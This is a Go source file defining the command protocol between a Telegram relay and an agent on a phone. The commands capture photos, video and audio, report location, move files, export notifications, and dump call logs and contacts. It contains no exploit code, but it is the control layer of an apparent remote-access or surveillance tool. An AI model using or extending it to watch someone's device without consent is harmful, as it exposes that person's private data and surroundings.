// Package command defines the canonical Command value exchanged between
// the relay and the device agent, and the two codecs around it: parsing
// one inbound Telegram update into a Command, and the flat string
// payload carried over the push channel.
//
// The "kind:data" callback strings and the payload field names are wire
// details kept inside this package; everything else works with the
// typed Command.
package command

import (
	"fmt"
	"strconv"
)

// Kind tags a Command variant. Values double as the payload "type" field.
type Kind string

const (
	// Capture actions.
	Photo    Kind = "photo"
	Video    Kind = "video"
	Audio    Kind = "audio"
	Location Kind = "location"
	Ring     Kind = "ring"
	Vibrate  Kind = "vibrate"

	// File actions.
	List Kind = "list"
	File Kind = "file"
	Recv Kind = "recv"
	Del  Kind = "del"
	Send Kind = "send"

	// Notification management.
	NotiMenu       Kind = "noti"
	NotiAdd        Kind = "notiadd"
	NotiAddPick    Kind = "notiaddpick"
	NotiRemove     Kind = "notiremove"
	NotiRemovePick Kind = "notiremovepick"
	NotiPick       Kind = "notipick"
	NotiClear      Kind = "noticlear"
	NotiClearPick  Kind = "noticlearpick"
	NotiExport     Kind = "notiexport"
	NotiExportPick Kind = "notiexportpick"

	// Paged variants of the app pickers.
	NotiAddPickNav    Kind = "notiaddpicknav"
	NotiRemovePickNav Kind = "notiremovepicknav"
	NotiClearPickNav  Kind = "noticlearpicknav"
	NotiExportPickNav Kind = "notiexportpicknav"

	// Read-only info dumps.
	CallLogs Kind = "calllogs"
	Contacts Kind = "contacts"
)

// Defaults applied during text-command parsing.
const (
	DefaultCamera       = "front"
	DefaultVideoLength  = "1"
	DefaultVideoQuality = "480"
	DefaultAudioLength  = "1"
	PhotoQuality        = "1080"
	DefaultSort         = "date"
	DefaultOrder        = "desc"
)

// Command is one operator instruction, resolved to the chat and bot
// scope it must answer to.
type Command struct {
	Kind   Kind
	ChatID string
	Scope  string // bot token namespace for registration lookup and replies

	// Capture fields.
	Camera   string
	Flash    bool
	Quality  string
	Duration string

	// Listing fields.
	Sort  string
	Order string
	Path  string

	// File fields.
	File         string
	FileURL      string
	FileName     string
	TargetPath   string
	CallbackData string // opaque sendnav:/sendplace: selections, passed through

	// Notification-management fields.
	Package string
	Page    int
}

// Payload encodes the command as the flat string map sent over the push
// channel. Numeric and boolean fields are stringified so every value
// rides the wire the same way.
func (c *Command) Payload() map[string]string {
	p := map[string]string{
		"type":      string(c.Kind),
		"chat_id":   c.ChatID,
		"bot_token": c.Scope,
	}
	switch c.Kind {
	case Photo:
		p["camera"] = c.Camera
		p["flash"] = strconv.FormatBool(c.Flash)
		p["quality"] = c.Quality
	case Video:
		p["camera"] = c.Camera
		p["flash"] = strconv.FormatBool(c.Flash)
		p["duration"] = c.Duration
		p["quality"] = c.Quality
	case Audio:
		p["duration"] = c.Duration
	case List:
		p["sort"] = c.Sort
		p["order"] = c.Order
		p["path"] = c.Path
	case File, Recv, Del:
		p["file"] = c.File
	case Send:
		if c.CallbackData != "" {
			p["callback_data"] = c.CallbackData
		} else {
			p["file_url"] = c.FileURL
			p["file_name"] = c.FileName
			p["target_path"] = c.TargetPath
		}
	case NotiAddPick, NotiRemovePick, NotiPick, NotiClearPick, NotiExportPick:
		p["pkg"] = c.Package
	case NotiAddPickNav, NotiRemovePickNav, NotiClearPickNav, NotiExportPickNav:
		p["page"] = strconv.Itoa(c.Page)
	}
	return p
}

// FromPayload decodes a push payload back into a Command on the device
// side. Unknown or missing numeric fields default rather than fail.
func FromPayload(p map[string]string) (*Command, error) {
	kind := Kind(p["type"])
	if kind == "" {
		return nil, fmt.Errorf("payload has no type")
	}
	page, _ := strconv.Atoi(p["page"])
	flash, _ := strconv.ParseBool(p["flash"])
	return &Command{
		Kind:         kind,
		ChatID:       p["chat_id"],
		Scope:        p["bot_token"],
		Camera:       p["camera"],
		Flash:        flash,
		Quality:      p["quality"],
		Duration:     p["duration"],
		Sort:         p["sort"],
		Order:        p["order"],
		Path:         p["path"],
		File:         p["file"],
		FileURL:      p["file_url"],
		FileName:     p["file_name"],
		TargetPath:   p["target_path"],
		CallbackData: p["callback_data"],
		Package:      p["pkg"],
		Page:         page,
	}, nil
}
